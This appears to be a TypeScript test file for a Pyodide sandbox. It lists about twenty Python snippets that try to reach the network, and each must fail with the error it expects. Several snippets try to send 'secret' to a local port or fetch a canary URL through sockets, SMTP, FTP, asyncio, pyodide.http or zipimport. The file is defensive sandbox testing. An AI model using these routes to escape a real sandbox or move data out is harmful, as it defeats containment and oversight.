import { attack, prints, type Attack } from './attack.ts'

const unreachable = /Host is unreachable/
const unsupported = /^OSError: \[Errno 138\] Not supported/

/** By Python's own means. */
export const network: readonly Attack[] = [
  attack('urllib', unreachable, 'import urllib.request', 'urllib.request.urlopen("CANARY")'),
  attack(
    'http.client',
    unreachable,
    'import http.client',
    'http.client.HTTPConnection("127.0.0.1", PORT, timeout=1).request("GET", "/secret")',
  ),
  attack(
    'a socket',
    unreachable,
    'import socket',
    's = socket.create_connection(("127.0.0.1", PORT), 1)',
    's.send(b"secret")',
  ),
  attack(
    'a socket that does not wait',
    /^BlockingIOError|unreachable/,
    'import socket',
    's = socket.socket()',
    's.setblocking(False)',
    's.connect(("127.0.0.1", PORT))',
  ),
  attack(
    'a datagram',
    unreachable,
    'import socket',
    'socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", PORT))',
  ),
  // Addresses that Emscripten makes up: nobody was asked.
  attack(
    'a name to look up',
    prints('True True'),
    'import socket',
    'found = socket.gethostbyname("secret.invalid"), socket.getaddrinfo("secret.canary.test", 80)[0][4][0]',
    'print(*(address.startswith("172.29.") for address in found))',
  ),
  attack(
    'to be a server',
    unsupported,
    'import socket',
    's = socket.socket()',
    's.bind(("127.0.0.1", 9))',
    's.listen()',
  ),
  attack('a pair of sockets', unsupported, 'import socket', 'socket.socketpair()'),
  attack(
    'mail',
    unreachable,
    'import smtplib',
    'smtplib.SMTP("127.0.0.1", PORT, timeout=1).sendmail("a@b", "c@d", "secret")',
  ),
  attack('ftp', unreachable, 'import ftplib', 'ftplib.FTP().connect("127.0.0.1", PORT, 1)'),
  attack(
    'a log over the network',
    unreachable,
    'import logging.handlers',
    'logging.handlers.SocketHandler("127.0.0.1", PORT).makeSocket()',
  ),
  attack(
    'asyncio',
    /^RuntimeError: there is no event loop here/,
    'import asyncio',
    'asyncio.run(asyncio.open_connection("127.0.0.1", PORT))',
  ),
  attack(
    'asyncio with a loop of its own',
    unsupported,
    'import asyncio',
    'asyncio.SelectorEventLoop().run_until_complete(asyncio.open_connection("127.0.0.1", PORT))',
  ),
  attack(
    'pyodide.http',
    /^NameError: name 'XMLHttpRequest' is not defined/,
    'import pyodide.http',
    'pyodide.http.open_url("CANARY")',
  ),
  attack(
    'pyodide.http, by hand',
    /^NameError: name 'AbortController' is not defined/,
    'import pyodide.http',
    'pyodide.http.pyfetch("CANARY").send(None)',
  ),
  attack(
    'webbrowser',
    /^ModuleNotFoundError: No module named 'js'/,
    'import webbrowser',
    'webbrowser.open("CANARY")',
  ),
  attack('micropip', /^ModuleNotFoundError: No module named 'micropip'/, 'import micropip'),
  attack(
    'an import hook that fetches',
    /^zipimport.ZipImportError: not a Zip file/,
    'import zipimport',
    'zipimport.zipimporter("CANARY")',
  ),
  attack(
    'a path that is an address',
    /^ModuleNotFoundError: No module named 'secret'/,
    'import sys',
    'sys.path.insert(0, "CANARY")',
    'import secret',
  ),
]
